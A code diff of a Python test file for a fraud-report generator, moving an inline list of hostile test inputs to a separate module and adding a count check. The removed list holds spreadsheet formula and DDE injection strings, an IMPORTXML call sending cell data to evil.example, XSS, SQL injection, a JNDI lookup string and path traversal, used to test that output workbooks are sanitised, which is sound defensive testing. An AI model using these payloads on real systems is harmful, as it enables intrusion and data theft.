@@ -11,60 +11,12 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from payloads import FORMULAS, PAYLOADS, SCRIPTS
 from report_nights import PARTNERS, SINGLE, flag, make_night, record
 
 from fraudmatch import schemas
 from fraudmatch.report import report
 from fraudmatch.report.clean import clean_text
-
-PAYLOADS = (
-    "=1+1",
-    '=HYPERLINK("https://evil.example","x")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "  =1+1",
-    "\t=1+1",
-    "\r=1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "=cmd|'/C calc'!A1",
-    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
-    "https://evil.example/click",
-    "mailto:a@evil.example",
-    "internal:Sheet1!A1",
-    "external:\\\\host\\share\\x.xlsx",
-    "\\\\host\\share",
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "{=1+1}",
-    "{{ 7 * 7 }}",
-    "{% raw %}",
-    "0012",
-    "1e5",
-    "_x0041_",
-    "a\x00b\x07c\x1b[31m",
-    "\u202egnp.exe",
-    "two\nlines",
-    'say "hello", twice',
-    '=DDE("cmd";"/C calc";"x")',
-    "'=1+1",
-    "O'Brien & Søn <Ltd>",
-    "\ufffe\uffff",
-    "\x85\x9f",
-    "😀" * 3,
-    *("Null", "None", "Nan", "NaN", "Na", "True", "May", "Jan", "1/2", "NULL"),
-    "'; DROP TABLE x; --",
-    "${jndi:ldap://evil.example/x}",
-    "{0.__class__}",
-    "%n%s",
-    "../../etc/x",
-    "NAME_MISSING|surname;flag",
-)
 
 
 def hostile_night():
@@ -99,6 +51,11 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def parts(path: Path) -> dict[str, str]:
     with zipfile.ZipFile(path) as archive:
         return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
+
+
+def test_there_are_as_many_as_were_promised() -> None:
+    assert len(set(FORMULAS)) >= 40 and len(set(SCRIPTS)) >= 60
+    assert len(set(PAYLOADS)) == len(PAYLOADS)
 
 
 def test_workbooks_hold_no_formula_and_no_link(folder: Path) -> None:
